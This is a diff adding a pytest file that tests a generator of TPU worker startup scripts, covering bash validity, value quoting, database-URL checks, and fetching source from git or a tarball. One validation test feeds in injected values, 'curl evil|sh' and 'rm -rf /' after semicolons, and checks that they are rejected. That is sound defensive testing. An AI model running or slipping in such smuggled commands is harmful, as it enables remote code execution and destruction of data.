@@ -1,0 +1,213 @@
+"""The worker bootstrap script: its settings are checked, its values quoted, and its steps
+(fetch traindeck from git or a tarball, write the worker's service) run for real in bash, in a
+temporary folder instead of /opt and /etc."""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import stat
+import subprocess
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from dashboard.tpu_bootstrap import (
+    TORCH_XLA_VERSION,
+    BootstrapSettings,
+    build_startup_script,
+    database_url_problems,
+)
+
+PROJECT_ROOT = Path(__file__).resolve().parents[2]
+DATABASE_URL = "postgresql+psycopg://trainer:p%40ss;w&rd@10.128.0.9:5432/traindeck"
+
+
+def _settings(**changes) -> BootstrapSettings:
+    fields = {
+        "node_name": "spot-1",
+        "database_url": DATABASE_URL,
+        "source_url": "https://github.com/example/traindeck.git",
+        **changes,
+    }
+    return BootstrapSettings(**fields)
+
+
+def _run_steps(script: str, steps: str, base: Path) -> subprocess.CompletedProcess[str]:
+    """Source the script (defining its steps only), move its folders under `base`, run `steps`."""
+    script_file = base / "startup.sh"
+    script_file.write_text(script)
+    program = (
+        "set -euo pipefail\n"
+        f"TRAINDECK_BOOTSTRAP_DEFINE_ONLY=1 source {script_file}\n"
+        f'BASE={base}/opt; SRC="$BASE/src"; VENV="$BASE/venv"\n'
+        f"ENV_FILE={base}/etc/traindeck/worker.env\n"
+        f"UNIT_FILE={base}/etc/traindeck-worker.service\n"
+        f"TRAINDECK_DATA={base}/data\n"
+        f"{steps}\n"
+    )
+    return subprocess.run(
+        ["bash", "-c", program], capture_output=True, text=True, timeout=60, check=False
+    )
+
+
+def test_the_script_is_valid_bash_with_the_pinned_stack_and_the_worker_id():
+    script = build_startup_script(_settings())
+
+    assert script.startswith("#!/bin/bash\n")
+    syntax = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
+    assert syntax.returncode == 0, syntax.stderr
+    assert "WORKER_ID=tpu-spot-1\n" in script
+    assert "TORCH_XLA_REQUIREMENT='torch_xla[tpu]==2.9.0'" in script
+    assert 'pip install --quiet -r "$SRC/requirements.txt" "$TORCH_XLA_REQUIREMENT"' in script
+    assert "python3.11 -m venv" in script
+    assert "ExecStart=$VENV/bin/python -m worker --worker-id $WORKER_ID" in script
+    assert "PJRT_DEVICE=TPU" in script
+
+
+def test_the_torch_xla_pin_matches_requirements_txt():
+    requirements = (PROJECT_ROOT / "requirements.txt").read_text()
+    assert re.search(rf"^torch_xla=={re.escape(TORCH_XLA_VERSION)}$", requirements, re.M)
+
+
+def test_values_reach_bash_exactly_as_typed(tmp_path: Path):
+    settings = _settings(source_ref="release/1.2", data_dir="/mnt/shared_data")
+    result = _run_steps(
+        build_startup_script(settings),
+        'printf "%s\\n" "$WORKER_ID" "$DATABASE_URL" "$SOURCE_URL" "$SOURCE_REF"',
+        tmp_path,
+    )
+
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.splitlines() == [
+        "tpu-spot-1",
+        DATABASE_URL,
+        "https://github.com/example/traindeck.git",
+        "release/1.2",
+    ]
+
+
+def test_settings_that_cannot_work_are_named():
+    assert database_url_problems("sqlite:////srv/traindeck.db")[0].startswith(
+        "The database is a SQLite file on this machine"
+    )
+    assert "points at 127.0.0.1" in database_url_problems("postgresql://u@127.0.0.1/db")[0]
+    assert "points at localhost" in database_url_problems("postgres://u@localhost:5432/db")[0]
+    assert "URL-encode" in database_url_problems("postgresql://u:pa$$@10.0.0.2/db")[0]
+    assert database_url_problems("mysql://u@10.0.0.2/db") == [
+        "The database URL must be a postgresql:// URL, not 'mysql'://…"
+    ]
+    assert database_url_problems("") == [
+        "Set the database URL the workers use: the shared Postgres server."
+    ]
+    assert database_url_problems(DATABASE_URL) == []
+
+    bad = _settings(
+        node_name="Spot 1",
+        source_url="https://example.com/x.zip; curl evil|sh",
+        source_ref="main; rm -rf /",
+        data_dir="relative/data",
+    )
+    problems = bad.problems()
+    assert len(problems) == 4
+    with pytest.raises(ValueError, match="is not a valid TPU VM name"):
+        build_startup_script(bad)
+    assert _settings(source_url="").problems()[0].startswith("Say where the VM gets traindeck")
+    tarball = _settings(source_url="https://example.com/traindeck-1.0.tar.gz", source_ref="")
+    assert tarball.problems() == [] and tarball.source_is_tarball
+    assert _settings(source_url="git@github.com:example/traindeck.git").problems() == []
+
+
+def _tarball(path: Path, top: str) -> None:
+    with tarfile.open(path, "w:gz") as archive:
+        for name, text in (("requirements.txt", "torch==2.9.0\n"), ("worker/__init__.py", "")):
+            data = text.encode()
+            info = tarfile.TarInfo(f"{top}{name}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+
+
+@pytest.mark.parametrize("top", ["traindeck-1.0/", ""])
+def test_fetch_source_unpacks_a_tarball_with_or_without_a_top_folder(tmp_path: Path, top: str):
+    archive = tmp_path / "traindeck.tar.gz"
+    _tarball(archive, top)
+    script = build_startup_script(_settings(source_url="https://example.com/traindeck.tar.gz"))
+    script = script.replace(
+        "SOURCE_URL=https://example.com/traindeck.tar.gz", f"SOURCE_URL=file://{archive}"
+    )
+
+    result = _run_steps(script, "fetch_source", tmp_path)
+
+    assert result.returncode == 0, result.stderr
+    source = tmp_path / "opt" / "src"
+    assert (source / "requirements.txt").read_text() == "torch==2.9.0\n"
+    assert (source / "worker" / "__init__.py").is_file()
+    assert not (tmp_path / "opt" / "src.new").exists()
+
+
+def _git(*args: str, cwd: Path) -> None:
+    environment = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@example.com",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@example.com",
+    }
+    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=environment)
+
+
+def test_fetch_source_clones_then_updates_a_git_repository(tmp_path: Path):
+    origin = tmp_path / "origin"
+    origin.mkdir()
+    _git("init", "--quiet", "--initial-branch=main", cwd=origin)
+    (origin / "requirements.txt").write_text("torch==2.9.0\n")
+    _git("add", "requirements.txt", cwd=origin)
+    _git("commit", "--quiet", "-m", "first", cwd=origin)
+    script = build_startup_script(_settings()).replace(
+        "SOURCE_URL=https://github.com/example/traindeck.git", f"SOURCE_URL=file://{origin}"
+    )
+
+    first = _run_steps(script, "fetch_source", tmp_path)
+    (origin / "requirements.txt").write_text("torch==2.9.0\nfastai==2.8.12\n")
+    _git("commit", "--quiet", "-am", "second", cwd=origin)
+    second = _run_steps(script, "fetch_source", tmp_path)
+
+    assert first.returncode == 0, first.stderr
+    assert second.returncode == 0, second.stderr
+    requirements = tmp_path / "opt" / "src" / "requirements.txt"
+    assert requirements.read_text() == "torch==2.9.0\nfastai==2.8.12\n"
+
+
+def test_a_tarball_without_traindeck_is_refused(tmp_path: Path):
+    archive = tmp_path / "other.tar.gz"
+    with tarfile.open(archive, "w:gz") as handle:
+        info = tarfile.TarInfo("README")
+        handle.addfile(info, io.BytesIO(b""))
+    script = build_startup_script(_settings(source_url="https://example.com/other.tar.gz"))
+    script = script.replace("https://example.com/other.tar.gz", f"file://{archive}")
+
+    result = _run_steps(script, "fetch_source", tmp_path)
+
+    assert result.returncode != 0
+    assert "holds no requirements.txt: is it traindeck?" in result.stderr
+
+
+def test_the_worker_service_runs_python_m_worker_with_the_shared_database(tmp_path: Path):
+    result = _run_steps(build_startup_script(_settings()), "write_worker_service", tmp_path)
+
+    assert result.returncode == 0, result.stderr
+    environment = tmp_path / "etc" / "traindeck" / "worker.env"
+    assert environment.read_text().splitlines() == [
+        f"DATABASE_URL={DATABASE_URL}",
+        f"TRAINDECK_DATA={tmp_path}/data",
+        "PJRT_DEVICE=TPU",
+    ]
+    assert stat.S_IMODE(environment.stat().st_mode) == 0o600, "the URL holds a password"
+    unit = (tmp_path / "etc" / "traindeck-worker.service").read_text()
+    assert f"ExecStart={tmp_path}/opt/venv/bin/python -m worker --worker-id tpu-spot-1\n" in unit
+    assert f"EnvironmentFile={environment}\n" in unit
+    assert f"WorkingDirectory={tmp_path}/opt/src\n" in unit
+    assert "Restart=on-failure" in unit
+    assert (tmp_path / "data").is_dir()
